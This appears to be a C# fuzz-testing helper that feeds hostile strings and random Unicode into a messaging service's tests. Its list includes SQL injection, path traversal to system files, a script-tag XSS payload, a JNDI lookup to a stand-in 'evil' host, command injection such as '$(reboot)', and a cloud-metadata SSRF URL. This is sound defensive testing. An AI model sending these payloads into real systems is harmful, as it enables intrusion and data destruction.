using System.Text;

namespace WhatsApp.Tests.Functional.Fuzz;

/// <summary>Hostile text: traversal, SQL, markup, format strings, odd Unicode, control characters and sheer length.</summary>
internal static class FuzzStrings
{
    public static readonly string[] Nasty =
    [
        "", " ", "null", "undefined", "NaN", "-1", "0", "1e309", "-9223372036854775809", "18446744073709551616",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//", "/", "\\", ".", "..",
        "' OR '1'='1", "'; DROP TABLE Messages; --", "1; DELETE FROM WebhookReceipts", "\" OR \"\"=\"", "%' OR 1=1 --",
        "' UNION SELECT sql FROM sqlite_master --", "%", "_", "%%", "[a-z]%", "\\%",
        "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "{{7*7}}", "{0}{1}{2}", "%s%s%s%n", "$(reboot)", "`id`",
        "\u0000", "a\u0000b", "\r\n\r\nX-Injected: 1", "\t", "\u202Eevil\u202C", "\u200B\u200C\u200D\uFEFF", "\uFFFD",
        "\uD800", "\uDFFF", "a\uD83Db", "😀🎉👍🏽", "ｆｕｌｌｗｉｄｔｈ", "Ω≈ç√∫", "اَلْعَرَبِيَّةُ", "עִבְרִית", "中文字符", "Z̷̢̛a̸l̶g̵o̴",
        "+14155552671", "+1415555267１", "+٤١٥٥٥٥٢٦٧١", "14155552671", "+0", "+", "++14155552671", "+1 415 555 2671",
        "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}", "ffffffff-ffff-ffff-ffff-fffffffffffff",
        "2026-13-45", "9999-12-31T23:59:59Z", "0001-01-01", "2026-11-01T00:00:00+25:00", "-2026-01-01",
        "true", "false", "[]", "{}", "AAAA====", "!!!!", "=", "&", "?", "#", "javascript:alert(1)", "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/", "https://example.com/" + new string('a', 3000),
    ];

    private static readonly (int From, int To)[] Ranges =
    [
        (0x20, 0x7E), (0x20, 0x7E), (0x00, 0x1F), (0xA0, 0xFF), (0x0300, 0x036F), (0x0590, 0x06FF), (0x4E00, 0x4FFF),
        (0x200B, 0x202E), (0xFFF0, 0xFFFF), (0x1F300, 0x1F6FF),
    ];

    /// <summary>Mostly short and strange, sometimes long.</summary>
    public static string Next(Random rng, int maxLength = 70_000) => rng.Next(10) switch
    {
        < 4 => Nasty[rng.Next(Nasty.Length)],
        < 8 => Unicode(rng, rng.Next(0, 80)),
        8 => Mixed(rng),
        _ => new string((char)rng.Next('a', 'z' + 1), rng.Next(1, Math.Max(2, maxLength))),
    };

    /// <summary>Random code points from scripts, combining marks, controls, specials and emoji.</summary>
    public static string Unicode(Random rng, int length)
    {
        var text = new StringBuilder(length * 2);
        for (var i = 0; i < length; i++)
        {
            var (from, to) = Ranges[rng.Next(Ranges.Length)];
            text.Append(char.ConvertFromUtf32(rng.Next(from, to + 1)));
        }

        return text.ToString();
    }

    /// <summary>Printable ASCII that survives in header values.</summary>
    public static string Ascii(Random rng, int length)
    {
        var text = new char[length];
        for (var i = 0; i < length; i++)
        {
            text[i] = (char)rng.Next(0x21, 0x7F);
        }

        return new string(text);
    }

    private static string Mixed(Random rng) => Nasty[rng.Next(Nasty.Length)] + Unicode(rng, rng.Next(1, 10)) + Nasty[rng.Next(Nasty.Length)];
}
